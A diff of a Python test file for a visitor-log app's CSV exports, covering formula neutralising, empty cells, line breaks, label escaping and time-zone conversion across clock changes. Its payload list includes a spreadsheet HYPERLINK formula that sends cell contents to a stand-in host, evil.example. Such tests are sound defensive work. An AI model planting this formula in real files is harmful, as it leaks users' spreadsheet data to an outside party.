@@ -1,9 +1,12 @@
 """CSV exports of the logs: read back by Python's csv module as a spreadsheet would
-read them, formulas made harmless, and memory that stays flat as the rows grow."""
+read them, formulas made harmless, local times as zoneinfo makes them, and memory
+that stays flat as the rows grow. The database writes the lines, so each test runs
+on SQLite and on PostgreSQL."""
 
 import csv
 import gc
 import io
+import itertools
 import tracemalloc
 from datetime import UTC, date, datetime, timedelta
 from zoneinfo import ZoneInfo
@@ -15,6 +18,7 @@ from gatekeeper import exports, search
 from gatekeeper.models import Pickup, Site, Visit
 
 NOW = datetime(2026, 3, 10, 18, 0, tzinfo=UTC)
+TODAY = NOW.date()
 # Each begins a formula, or is stripped before one, in some spreadsheet.
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -63,12 +67,20 @@ def add_visits(sessions, site_id: int, rows: list[dict]) -> None:
             s.execute(insert(Visit), rows[start : start + 5000])
 
 
-def export(sessions, site_id: int, log: str = "visits") -> str:
-    criteria = search.Criteria(log=log, first=NOW.date(), last=NOW.date())
+def export(
+    sessions,
+    site_id: int,
+    log: str = "visits",
+    *,
+    first: date = TODAY,
+    last: date = TODAY,
+    type_labels: dict[str, str] | None = None,
+) -> str:
+    criteria = search.Criteria(log=log, first=first, last=last)
     with sessions() as s:
         site = s.get(Site, site_id)
-        rows = exports.rows(s, site, criteria, now=NOW, type_labels={})
-        return "".join(exports.csv_text(exports.header(criteria), rows))
+        chunks = exports.document(s, site, criteria, now=NOW, type_labels=type_labels)
+        return "".join(chunks)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -176,8 +188,7 @@ def _peak_while_exporting(sessions, site_id: int) -> tuple[int, int, int]:
         tracemalloc.start()
         base, _ = tracemalloc.get_traced_memory()
         produced = lines = 0
-        rows = exports.rows(s, site, criteria, now=NOW, type_labels={})
-        for chunk in exports.csv_text(exports.header(criteria), rows):
+        for chunk in exports.document(s, site, criteria, now=NOW, type_labels={}):
             produced += len(chunk.encode("utf-8"))
             lines += chunk.count("\r\n")
 
@@ -206,17 +217,187 @@ def test_a_large_export_streams_in_bounded_memory(sessions, site):
     assert large_peak < 8_000_000, large_peak
 
 
+def test_missing_values_are_empty_cells_and_line_breaks_survive(sessions, site):
+    missing = {
+        "id_verified_by": None,
+        "id_verified_at": None,
+        "valid_until": None,
+        "escort_name": None,
+        "id_document_expired": None,
+    }
+    add_visits(
+        sessions,
+        site.id,
+        [
+            visit_row(site.id, 0, company="", **missing),
+            visit_row(
+                site.id,
+                1,
+                visitor_name='Ana "Nita"\r\nLópez',
+                company="Line one\nLine two, and more",
+                host_name="=1+1\n=2+2",
+            ),
+        ],
+    )
+
+    text = export(sessions, site.id)
+    table = read_back(text)
+
+    assert len(table) == 3
+    names = table[0]
+    empty = dict(zip(names, table[1], strict=True))
+    broken = dict(zip(names, table[2], strict=True))
+    assert broken["Visitor's name"] == 'Ana "Nita"\r\nLópez'
+    assert broken["Company"] == "Line one\nLine two, and more"
+    assert broken["Point of contact"] == "'=1+1\n=2+2"
+    assert broken["Departed"] == ""
+    for name in ("ID verified by", "ID verified at", "Badge valid until", "Escort"):
+        assert empty[name] == "", name
+    assert empty["ID document expired"] == ""
+    assert empty["Company"] == ""
+    # In the file itself, a missing value is nothing at all, and an empty text
+    # a quoted empty string. (The first row has no line break nor comma inside.)
+    line = text.removeprefix(exports.BOM).split("\r\n")[1]
+    raw = dict(zip(names, line.split(","), strict=True))
+    assert raw["ID verified by"] == raw["ID verified at"] == raw["Escort"] == ""
+    assert raw["ID document expired"] == raw["Departed"] == ""
+    assert raw["Company"] == '""'
+    assert raw["Visitor's name"] == '"Visitor 0"'
+    assert text.endswith("\r\n")
+
+
+def test_labels_are_the_sites_words_made_harmless(sessions, site):
+    add_visits(
+        sessions,
+        site.id,
+        [
+            visit_row(site.id, 0, visitor_type="contractor"),
+            visit_row(site.id, 1, visitor_type="=unknown", id_type="+passport"),
+        ],
+    )
+    labels = {"contractor": '=Contractor, "long term"'}
+
+    table = read_back(export(sessions, site.id, type_labels=labels))
+
+    kinds = [row[table[0].index("Visitor type")] for row in table[1:]]
+    ids = [row[table[0].index("Photo ID type")] for row in table[1:]]
+    assert kinds == ['\'=Contractor, "long term"', "'=unknown"]
+    assert ids == ["Passport", "'+passport"]
+
+
+def _changes_of(zone: ZoneInfo, instants: list[datetime]) -> list[datetime]:
+    """The instants, to the microsecond, where the zone's offset changes between
+    two neighbours of the list, found by halving."""
+    changes = []
+    for before, after in itertools.pairwise(instants):
+        if before.astimezone(zone).utcoffset() == after.astimezone(zone).utcoffset():
+            continue
+
+        low, high = before, after
+        while high - low > timedelta(microseconds=1):
+            middle = low + (high - low) / 2
+            same = (
+                middle.astimezone(zone).utcoffset() == low.astimezone(zone).utcoffset()
+            )
+            low, high = (middle, high) if same else (low, middle)
+        changes.append(high)
+
+    return changes
+
+
 @pytest.mark.parametrize(
     "zone", ["America/Chicago", "America/St_Johns", "Europe/London", "Asia/Kolkata"]
 )
-def test_local_times_are_right_on_the_days_the_clocks_change(zone):
-    local = exports.LocalTime(ZoneInfo(zone))
-    start = datetime(2026, 1, 1)
-    # Every 37 minutes through a year, so every change of offset is crossed, read
-    # as SQLite gives them (text) and as PostgreSQL does (naive values).
-    for step in range(0, 365 * 24 * 60, 37):
-        stored = start + timedelta(minutes=step)
-        expected = stored.replace(tzinfo=UTC).astimezone(ZoneInfo(zone))
-        wanted = expected.replace(tzinfo=None).isoformat(" ")
-        assert local.text(stored.isoformat(" ")) == wanted, stored
-        assert local.text(stored) == wanted, stored
+def test_local_times_are_zoneinfos_all_year(sessions, site, zone):
+    with sessions.begin() as s:
+        s.get(Site, site.id).timezone = zone
+    local = ZoneInfo(zone)
+    start = datetime(2026, 1, 1, tzinfo=UTC)
+    # Every 37 minutes through a year, so that every change of offset is crossed,
+    # and each change's instant itself, a microsecond before it, and 59.9996
+    # seconds into the minute before it (SQLite rounds to the millisecond).
+    steps = [start + timedelta(minutes=m) for m in range(0, 365 * 24 * 60, 37)]
+    changes = _changes_of(local, steps)
+    assert len(changes) == (0 if zone == "Asia/Kolkata" else 2)
+    edges = [
+        edge - nudge
+        for edge in changes
+        for nudge in (
+            timedelta(0),
+            timedelta(microseconds=1),
+            timedelta(seconds=0.0004),
+        )
+    ]
+    arrivals = steps + edges
+    rows = [
+        visit_row(
+            site.id,
+            number,
+            arrived_at=arrived,
+            id_verified_at=arrived,
+            # Other columns cross the changes at other rows, and end a second
+            # short of a whole minute.
+            departed_at=arrived + timedelta(hours=2, seconds=59.999999),
+            valid_until=arrived + timedelta(hours=12),
+        )
+        for number, arrived in enumerate(arrivals)
+    ]
+    add_visits(sessions, site.id, rows)
+
+    table = read_back(
+        export(sessions, site.id, first=date(2025, 12, 31), last=date(2027, 1, 1))
+    )
+
+    def shown(instant: datetime) -> str:
+        return instant.astimezone(local).strftime("%Y-%m-%d %H:%M")
+
+    header, exported = table[0], table[1:]
+    assert len(exported) == len(rows)
+    column = {name: header.index(name) for name in header}
+    by_badge = {row["badge_number"]: row for row in rows}
+    for cells in exported:
+        row = by_badge[cells[column["Badge number"]]]
+        wanted = {
+            "Date": shown(row["arrived_at"])[:10],
+            "Arrived": shown(row["arrived_at"]),
+            "ID verified at": shown(row["id_verified_at"]),
+            "Departed": shown(row["departed_at"]),
+            "Badge valid until": shown(row["valid_until"]),
+        }
+        got = {name: cells[column[name]] for name in wanted}
+        assert got == wanted, row["arrived_at"]
+
+
+def test_an_offset_in_seconds_is_kept(sessions, site):
+    """Liberia kept UTC-0:44:30 until 1972: a zone suffix cannot say that, and
+    SQLite's times are moved by a modifier instead."""
+    zone = "Africa/Monrovia"
+    with sessions.begin() as s:
+        s.get(Site, site.id).timezone = zone
+    change = datetime(1972, 1, 7, 0, 44, 30, tzinfo=UTC)
+    arrivals = [
+        change + timedelta(minutes=minutes, microseconds=micros)
+        for minutes in (-24 * 60, -1, 0, 1, 24 * 60)
+        for micros in (0, -1, -400)
+    ]
+    add_visits(
+        sessions,
+        site.id,
+        [
+            visit_row(site.id, n, arrived_at=arrived, id_verified_at=arrived)
+            for n, arrived in enumerate(arrivals)
+        ],
+    )
+
+    table = read_back(
+        export(sessions, site.id, first=date(1972, 1, 1), last=date(1972, 1, 31))
+    )
+
+    arrived = table[0].index("Arrived")
+    wanted = [
+        instant.astimezone(ZoneInfo(zone)).strftime("%Y-%m-%d %H:%M")
+        for instant in sorted(arrivals, reverse=True)
+    ]
+    assert [row[arrived] for row in table[1:]] == wanted
+    # The change at midnight, local time, and a microsecond before it.
+    assert wanted[6:8] == ["1972-01-07 00:44", "1972-01-06 23:59"]
